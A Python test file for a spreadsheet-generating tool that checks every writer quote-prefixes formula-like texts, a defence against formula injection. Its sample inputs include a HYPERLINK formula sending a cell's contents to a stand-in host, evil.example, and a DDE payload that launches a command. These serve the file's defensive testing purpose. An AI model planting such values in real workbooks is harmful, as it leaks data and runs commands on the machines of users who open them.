"""Every cell xinyong writes into a workbook goes through ``xinyong.safe.put`` / ``safe.append``, and a
workbook it loads to change through ``safe.editable`` (docs/security/text.md, "Formulas are never
written").

Two kinds of check. The code: no module of ``lib/`` (nor ``scripts/make_demo.py``) sets a cell's value
any other way (``ws.cell(r, c, v)``, ``ws["A1"] = v``, ``cell.value = v``, ``ws.append(row)``). The files:
each writer, given texts that begin with ``= + - @`` (a unit's name, a reason, an evidence title, a
file name), writes a workbook that openpyxl's read-only reader reads back with those texts as text
cells and no formula cell anywhere; and every ``<row>`` of its sheets holds a cell with a value (the
check that ran over every cell after writing made an empty row at each blank line of a sheet).
"""
from __future__ import annotations

import ast
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

import xinyong
from xinyong.intake import UnitRow, build_template, read_inputs, save_workbook, write_template
from xinyong.intake.review_workbook import REVIEW_COLUMNS, apply_review, write_review
from xinyong.intake.submission import collect, read_manifest, split
from xinyong.safe import editable, formula_parts, put

from conftest import MINI, ROOT

PERIOD = "2019"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
# texts the reader accepts (a name may be "+86…"): they reach every writer through a returned workbook
ACCEPTED = ["+1", "-1+1", "@SUM(1)"]
# texts the reader refuses as formulas: only a writer fed directly (a units list, a file's cell as is) sees them
REFUSED = [HYPERLINK, " =1+1", "\t=cmd|' /C calc'!A0", "\r=1"]


@pytest.fixture(scope="module")
def scheme():
    return xinyong.load_scheme(MINI)


# ------------------------------------------------------------------------------------------ reading back
def read_back(path: Path) -> dict[str, str]:
    """Every non-empty text cell of the workbook, as openpyxl's read-only reader gives it -> its type;
    fails on any formula cell."""
    wb = openpyxl.load_workbook(path, read_only=True, data_only=False)
    texts: dict[str, str] = {}
    try:
        for ws in wb.worksheets:
            ws.reset_dimensions()
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (path.name, ws.title, c.coordinate, c.value)
                    if isinstance(c.value, str) and c.value:
                        texts[c.value] = c.data_type
    finally:
        wb.close()
    return texts


def rows_written(path: Path) -> dict[str, tuple[int, int]]:
    """Sheet title -> (``<row>`` elements in its XML, rows holding a value as openpyxl reads them)."""
    wb = openpyxl.load_workbook(path, read_only=True)
    out = {}
    with zipfile.ZipFile(path) as z:
        for k, ws in enumerate(wb.worksheets, 1):  # openpyxl writes the k-th worksheet as sheet<k>.xml
            ws.reset_dimensions()
            data = sum(any(c.value not in (None, "") for c in row) for row in ws.iter_rows())
            out[ws.title] = (len(re.findall(rb"<row[\s>/]", z.read(f"xl/worksheets/sheet{k}.xml"))), data)
    wb.close()
    return out


def assert_written_safely(path: Path, present: list[str]) -> None:
    """No formula; each of ``present`` is a text cell (alone or within a longer text); no empty row."""
    texts = read_back(path)
    for s in present:
        hits = [t for t in texts if s in t]
        assert hits and all(texts[t] == "s" for t in hits), (path.name, s)
    empty = {t: n for t, n in rows_written(path).items() if n[0] != n[1]}
    assert empty == {}, (path.name, "(<row> elements, rows with a value)", empty)


# ------------------------------------------------------------------------------------------ the code
CELL_REF = re.compile(r"^\$?[A-Z]{1,3}\$?[0-9]+$")
SHEET_ATTRS = {"cell", "column_dimensions", "row_dimensions", "freeze_panes", "add_data_validation", "iter_rows",
               "max_row", "max_column", "merged_cells", "protection", "delete_rows"}


def cell_writes(source: str) -> list[tuple[int, str]]:
    """(line, code) of each cell value set other than through ``safe.put`` / ``safe.append``."""
    tree = ast.parse(source)
    sheets = {n.value.id for n in ast.walk(tree)  # names used as a worksheet somewhere in the module
              if isinstance(n, ast.Attribute) and n.attr in SHEET_ATTRS and isinstance(n.value, ast.Name)}
    found = []
    for n in ast.walk(tree):
        if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute):
            f = n.func
            if f.attr == "cell" and (len(n.args) >= 3 or any(k.arg == "value" for k in n.keywords)):
                found.append(n)
            elif f.attr == "append" and isinstance(f.value, ast.Name) and f.value.id in sheets:
                found.append(n)
        targets = n.targets if isinstance(n, ast.Assign) else [n.target] if isinstance(n, (ast.AugAssign, ast.AnnAssign)) else []
        for t in targets:
            for x in (t.elts if isinstance(t, (ast.Tuple, ast.List)) else [t]):
                if isinstance(x, ast.Attribute) and x.attr in ("value", "data_type"):
                    found.append(x)
                elif (isinstance(x, ast.Subscript) and isinstance(x.slice, ast.Constant)
                      and isinstance(x.slice.value, str) and CELL_REF.match(x.slice.value)):
                    found.append(x)
    return sorted((x.lineno, ast.get_source_segment(source, x) or "") for x in found)


def test_the_check_finds_each_way_of_writing_a_cell():
    code = ('ws.column_dimensions["A"].width = 3\nws.cell(1, 2, v)\nws.cell(row=1, column=2, value=v)\n'
            'ws["B2"] = v\nws["A1"], ws["B1"] = a, b\nc.value = v\nc.data_type = "s"\nws.append([v])\n'
            'rows.append(v)\nws.cell(1, 2).font = f\nput(ws, 1, 2, v)\nd["key"] = v\n')
    assert [line for line, _ in cell_writes(code)] == [2, 3, 4, 5, 5, 6, 7, 8]


def test_no_module_writes_a_cell_but_through_safe():
    """The guard is at the write: a cell written any other way would hold a formula when given one."""
    files = [p for p in sorted((ROOT / "lib" / "xinyong").rglob("*.py")) if p.name != "safe.py"]
    files.append(ROOT / "scripts" / "make_demo.py")
    found = {str(p.relative_to(ROOT)): w for p in files if (w := cell_writes(p.read_text(encoding="utf-8")))}
    assert found == {}


# ------------------------------------------------------------------------------------------ the rules
def test_put_writes_every_dangerous_text_as_quoted_text(tmp_path):
    """``put``: a text beginning with = + - @ (after blanks) or a tab/CR is a text cell with Excel's quote
    prefix; other texts and numbers (-5 too) are left as they are."""
    wb = openpyxl.Workbook()
    ws = wb.active
    values = [*REFUSED, *ACCEPTED, "甲市", -5, 2.5, "a\x07b"]
    for j, v in enumerate(values, 1):
        put(ws, 1, j, v)
    path = save_workbook(wb, tmp_path / "put.xlsx")
    back = openpyxl.load_workbook(path)  # quotePrefix is a style: the full reader tells it
    cells = [back.active.cell(1, j) for j in range(1, len(values) + 1)]
    assert [c.value for c in cells] == [*REFUSED, *ACCEPTED, "甲市", -5, 2.5, "a\ufffdb"]
    assert [c.data_type for c in cells] == ["s"] * 8 + ["n", "n", "s"]
    assert [c.quotePrefix for c in cells] == [True] * 7 + [False] * 4
    assert_written_safely(path, REFUSED + ACCEPTED)


def test_a_formula_written_around_put_is_refused_at_save(tmp_path):
    """The bytes are checked: a writer that set a formula without ``put`` writes no file."""
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    with pytest.raises(xinyong.errors.XinyongError, match="公式"):
        save_workbook(wb, tmp_path / "x.xlsx")
    assert not (tmp_path / "x.xlsx").exists()


def test_editable_turns_the_files_formulas_into_text_and_creates_no_cell(tmp_path):
    """A workbook loaded to be changed: its formula cells become text, its texts that begin like one
    are quote-prefixed, and the rows it does not hold stay absent (rows 1, 5 and 9 only)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"], ws["C5"], ws["B9"] = "=1+1", "@SUM(1)", "甲市"  # a department's file, written by openpyxl
    buf = io.BytesIO()
    wb.save(buf)
    got = editable(buf.getvalue())
    path = save_workbook(got, tmp_path / "e.xlsx")
    with zipfile.ZipFile(path) as z:
        assert formula_parts(z) == []
        assert re.findall(rb'<row r="(\d+)"', z.read("xl/worksheets/sheet1.xml")) == [b"1", b"5", b"9"]
    back = openpyxl.load_workbook(path).active
    assert (back["A1"].value, back["A1"].data_type, back["A1"].quotePrefix) == ("=1+1", "s", True)
    assert (back["C5"].value, back["C5"].quotePrefix, back["B9"].quotePrefix) == ("@SUM(1)", True, False)


# ------------------------------------------------------------------------------------------ each writer
def test_template_and_split(scheme, tmp_path):
    """``xinyong template`` (the office's workbook, units from a list: every dangerous text) and
    ``template --split`` (one per unit: its 说明 sheet, title and 单位 sheet name it)."""
    units = [UnitRow(f"u{k}", name, "城市") for k, name in enumerate(REFUSED + ACCEPTED)]
    assert_written_safely(write_template(scheme, tmp_path / "template.xlsx", PERIOD, units), REFUSED + ACCEPTED)
    assert_written_safely(write_template(scheme, tmp_path / "empty.xlsx", ""), [])
    res = split(scheme, PERIOD, units, tmp_path / "split")
    for uid, path in res.files.items():
        assert_written_safely(path, [units[int(uid[1:])].unit_name])


def _return(sent: Path, out: Path, title: str) -> Path:
    """A unit's returned workbook: its values filled in, one evidence row titled ``title``."""
    wb = openpyxl.load_workbook(sent)
    ws = wb["输入"]
    for j in range(2, ws.max_column + 1):
        ws.cell(4, j).value = {"npl_rate": 2.6, "has_a": "是", "approved": 3, "total_depts": 5}.get(ws.cell(1, j).value)
    ev = wb["证据"]
    ev["A2"], ev["C2"], ev["D2"], ev["E2"] = "mini.1.1", title, "http://example.org/a.pdf", "2019-06-30"
    wb.save(out)
    return out


def test_collect_merged_workbook(scheme, tmp_path):
    """``xinyong collect``: names, evidence titles and a file name beginning with + - @ in the merged
    workbook's 单位, 证据 and 报送情况 sheets, as text."""
    units = [UnitRow(f"u{k}", name, "城市") for k, name in enumerate(ACCEPTED)]
    sent = split(scheme, PERIOD, units, tmp_path / "sent")
    back = tmp_path / "back"
    back.mkdir()
    for k, u in enumerate(units):
        _return(sent.files[u.unit_id], back / f"{'@-+'[k]}{u.unit_id}.xlsx", ACCEPTED[k] + "报告")
    out = tmp_path / "merged" / f"{PERIOD}.xlsx"
    res = collect(scheme, PERIOD, back, out, read_manifest(sent.folder, scheme))
    assert res.problems == [] or all(p.severity != "error" for p in res.problems)
    assert_written_safely(out, ACCEPTED + [a + "报告" for a in ACCEPTED] + ["@u0.xlsx"])


def _period_workbook(scheme, tmp_path: Path) -> Path:
    """A period workbook whose units are named by dangerous texts, the last unit's last judgement entered
    with a reason beginning with '-'."""
    wb = build_template(scheme, PERIOD, [UnitRow(f"u{k}", name, "城市") for k, name in enumerate(ACCEPTED)])
    ws = wb["评审"]
    assert ws.cell(ws.max_row, 1).value == "u2"
    put(ws, ws.max_row, 5, 1)
    put(ws, ws.max_row, 6, "-已整改")
    return save_workbook(wb, tmp_path / "data.xlsx")


def test_review_workbook_and_apply(scheme, tmp_path):
    """``xinyong review`` (names, the reason already entered) and ``review --apply`` (a reason and an
    assessor beginning with @ and +, written into the period workbook loaded for the purpose)."""
    data = _period_workbook(scheme, tmp_path)
    got = write_review(scheme, data, tmp_path / "review.xlsx", PERIOD)
    assert_written_safely(got.path, ACCEPTED + ["-已整改"])
    wb = openpyxl.load_workbook(got.path)
    ws = wb["评审"]
    col = {k: j for j, k in enumerate(REVIEW_COLUMNS, 1)}
    r = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, col["points"]).value is None)
    for k, v in (("points", 1), ("why", "@资料齐全"), ("assessor", "+张三"), ("reviewed", "2019-07-05")):
        ws.cell(r, col[k]).value = v
    wb.save(tmp_path / "filled.xlsx")
    done = apply_review(scheme, tmp_path / "filled.xlsx", data, tmp_path / "merged.xlsx")
    assert len(done.changes) == 1
    assert_written_safely(done.path, ACCEPTED + ["-已整改", "@资料齐全", "+张三"])
    assert read_inputs(scheme, done.path).errors == []


def test_batch_data_copy_of_a_workbook(scheme, tmp_path):
    """A batch's copy of a period workbook without its invalid unit (loaded, rows deleted, saved)."""
    from xinyong.report.partial import without_units

    data = _period_workbook(scheme, tmp_path)
    copy = tmp_path / "copy.xlsx"
    copy.write_bytes(without_units(data, {"u0"}))
    assert_written_safely(copy, ACCEPTED[1:] + ["-已整改"])
    assert read_inputs(scheme, copy).frame["unit_name"].tolist() == ACCEPTED[1:]


def test_scores_xlsx(scheme, tmp_path):
    """scores.xlsx: units named by every dangerous text, a failed one with an error beginning with '='."""
    from xinyong.batch.model import BatchSummary, UnitOutcome
    from xinyong.batch.outputs import scores_xlsx

    units = [UnitOutcome(id=f"u{k}", name=name, kind="城市", status="ok", stem=f"u{k}", total=1.0, rank=k + 1)
             for k, name in enumerate(REFUSED + ACCEPTED)]
    units.append(UnitOutcome(id="bad", name="-坏", kind=None, status="failed", stem="bad", error="=1+1 出错"))
    s = BatchSummary(scheme=scheme.id, scheme_title=scheme.title, period=PERIOD, run_dir=tmp_path, data="d.csv",
                     units=units, updated=dt.datetime(2020, 1, 1).isoformat())
    path = tmp_path / "scores.xlsx"
    path.write_bytes(scores_xlsx(s, scheme, None))
    assert_written_safely(path, REFUSED + ACCEPTED + ["-坏", "=1+1 出错"])
    # the sheets' looks (named styles) keep the quote prefix the safe writer gave each formula-like name
    back = openpyxl.load_workbook(path)
    prefixed = {c.value: c.quotePrefix for ws in back for row in ws.iter_rows() for c in row if c.value in REFUSED}
    assert set(prefixed) == set(REFUSED) and all(prefixed.values()), prefixed


def test_demo_workbooks_have_no_empty_rows():
    """``scripts/make_demo.py`` writes the demo workbooks through the template and ``put``."""
    files = sorted((ROOT / "params" / "demo").rglob("*.xlsx"))
    assert files
    for f in files:
        assert_written_safely(f, [])
